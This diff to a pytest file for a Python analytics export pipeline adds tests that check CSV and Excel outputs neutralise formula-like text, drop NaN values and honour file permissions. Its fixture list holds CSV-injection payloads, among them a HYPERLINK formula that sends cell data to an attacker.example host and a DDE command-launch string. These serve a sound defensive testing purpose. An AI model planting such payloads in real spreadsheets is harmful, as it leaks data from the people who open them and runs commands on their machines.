@@ -3,11 +3,13 @@ atomic re-runs, Excel's sheet limit, and no export of unvalidated data."""
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import datetime as dt
 import hashlib
 import io
 import json
+import os
 import shutil
 from pathlib import Path
 
@@ -17,7 +19,7 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
-from ioc_analytics import pipeline, publish
+from ioc_analytics import pipeline, publish, safety
 from ioc_analytics.errors import DataQualityError
 from ioc_analytics.settings import get_settings
 from ioc_analytics.tables import AGGREGATES, BREAKDOWN_USERS
@@ -163,3 +165,121 @@ def test_quicksight_datasets_suppress_as_the_exports_do(checked, name):
     export = publish.export_sql(table, DAY)
     want, _ = publish.suppress_small_groups(engine.query(export.sql, export.parameters).table, BREAKDOWN_USERS[name], k)
     assert got.to_pylist() == want.to_pylist()
+
+
+# -- safe to open --------------------------------------------------------------------------------
+
+#: Text that spreadsheets evaluate (OWASP's CSV injection), and text they do not.
+FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"open")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "\r=1",
+            "  =1", "\u00a0=1", "\uff1dcmd|'/c calc'!A0"]
+PLAIN = ["Technology", "0-2 years", "20+ years", "user@example.com", "Middle East & Africa", ""]
+
+
+def _hostile() -> pa.Table:
+    labels = FORMULAS + PLAIN
+    return pa.table({"label": labels, "users": list(range(len(labels))),
+                     "share": [0.5] * len(labels), "note": ["bell\x07 inside"] + [None] * (len(labels) - 1)})
+
+
+def test_spreadsheet_formats_neutralise_formula_like_text_and_keep_numbers():
+    from openpyxl import load_workbook
+
+    table = _hostile()
+    files = {f.format: f for f in publish.render_files(table, "hostile")}
+    assert files["csv"].neutralised == files["xlsx"].neutralised == len(FORMULAS)
+    assert files["json"].neutralised == files["parquet"].neutralised == 0
+
+    rows = list(csv.reader(io.StringIO(files["csv"].data.decode())))  # the CSV read as text
+    assert rows[0] == table.column_names
+    for record in rows[1:]:
+        starts = [cell.lstrip(" \u00a0")[:1] for cell in record if cell]
+        assert not [c for c in starts if c in "=+-@\t\r\uff1d"], record
+    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + PLAIN
+    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(FORMULAS + PLAIN))]
+
+    book = load_workbook(io.BytesIO(files["xlsx"].data))
+    cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
+    assert not [c for c in cells if c.data_type == "f"], "no cell is a formula"
+    labels = [row[0].value or "" for row in book.active.iter_rows(min_row=2)]
+    assert labels == ["'" + f for f in FORMULAS] + PLAIN
+    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
+    assert [row[1].value for row in book.active.iter_rows(min_row=2)] == list(range(len(labels)))
+    assert {row[1].data_type for row in book.active.iter_rows(min_row=2)} == {"n"}, "numbers stay numbers"
+    assert book.active.cell(2, 4).value == "bell\ufffd inside", "a control character Excel cannot hold"
+
+    assert [r["label"] for r in json.loads(files["json"].data)] == FORMULAS + PLAIN, "JSON keeps the raw text"
+    assert pq.read_table(io.BytesIO(files["parquet"].data)).equals(table), "Parquet keeps the raw values"
+
+
+def test_json_and_excel_hold_no_nan():
+    from openpyxl import load_workbook
+
+    table = pa.table({"x": [1.5, float("nan"), float("inf"), None]})
+    files = {f.format: f for f in publish.render_files(table, "numbers")}
+    assert json.loads(files["json"].data) == [{"x": 1.5}, {"x": None}, {"x": None}, {"x": None}]
+    sheet = load_workbook(io.BytesIO(files["xlsx"].data)).active
+    assert [row[0].value for row in sheet.iter_rows(min_row=2, max_row=5)] == [1.5, None, None, None]
+
+
+def test_the_manifest_counts_the_neutralised_cells(checked):
+    manifest = publish.export_aggregate(checked, DAY, "user_breakdowns", TAGS)
+    assert manifest["neutralised_cells"] == 0 and all(f["neutralised_cells"] == 0 for f in manifest["files"])
+
+
+def test_an_api_answer_over_raw_text_is_safe_to_open(sample_lake, tmp_path):
+    """The query API reads the raw tables themselves: a formula-like role in ocean_scores comes out
+    neutralised in CSV and Excel, raw in JSON."""
+    from openpyxl import load_workbook
+
+    from ioc_analytics import api
+
+    lake = tmp_path / "lake"
+    shutil.copytree(sample_lake / "ocean_scores" / "2024" / "01", lake / "ocean_scores" / "2024" / "01")
+    path = lake / "ocean_scores" / "2024" / "01" / "part-20240110.parquet"
+    data = pq.read_table(path)
+    roles = data["role"].to_pylist()
+    tech = data["industry"].to_pylist().index("Technology")
+    roles[tech] = FORMULAS[0]
+    pq.write_table(data.set_column(data.schema.get_field_index("role"), "role", pa.array(roles)), path)
+    settings = get_settings(backend="local", lake_root=str(lake), state_dir=str(tmp_path / "state"))
+    query, values, _ = api.prepare({"query": "ocean_scores_by_industry",
+                                    "parameters": {"industry": "Technology", "year": 2024, "month": 1}})
+    answer = api.run(settings, query, values, "test")
+    assert FORMULAS[0] in answer.table["role"].to_pylist()
+    csv_file = publish.render_file(answer.table, query.name, "csv")
+    records = list(csv.reader(io.StringIO(csv_file.data.decode())))
+    assert csv_file.neutralised == 1 and "'" + FORMULAS[0] in [r[records[0].index("role")] for r in records]
+    assert not [cell for record in records for cell in record if safety.is_formula_like(cell)]
+    xlsx = publish.render_file(answer.table, query.name, "xlsx")
+    cells = [c for row in load_workbook(io.BytesIO(xlsx.data)).active.iter_rows() for c in row]
+    assert not [c for c in cells if c.data_type == "f"]
+    assert not [c for c in cells if isinstance(c.value, str) and safety.is_formula_like(c.value)]
+    assert FORMULAS[0] in [r["role"] for r in api._json_rows(answer.table)]
+
+
+@pytest.mark.parametrize("umask", [0o022, 0o027])
+def test_every_output_honours_the_umask(checked, tmp_path, umask):
+    """Aggregates, reports, exports, manifests and the dashboard: readable by a BI tool or a web
+    server of the same group (or everyone) as the umask says, not 0600."""
+    from ioc_analytics import dashboard
+
+    settings = dataclasses.replace(checked, exports_root=str(tmp_path / "exports"))
+    lake = Path(settings.lake_uri)
+    folders = (lake / "aggregates" / "completion_rates", lake / "quality", tmp_path / "exports")
+
+    def stamps() -> dict[Path, int]:
+        return {p: p.stat().st_mtime_ns for folder in folders for p in folder.rglob("*") if p.is_file()}
+
+    before = stamps()
+    old = os.umask(umask)
+    try:
+        pipeline.build_aggregate(settings, DAY, "completion_rates", TAGS)
+        pipeline.quality_gate(settings, DAY, "completion_rates", TAGS)
+        publish.export_aggregate(settings, DAY, "completion_rates", TAGS)
+        dashboard.render(settings, DAY)
+    finally:
+        os.umask(old)
+    written = [p for p, stamp in stamps().items() if before.get(p) != stamp]
+    kinds = {p.suffix for p in written}
+    assert {".parquet", ".json", ".csv", ".xlsx", ".html"} <= kinds, kinds
+    assert {oct(p.stat().st_mode & 0o777) for p in written} == {oct(0o666 & ~umask)}
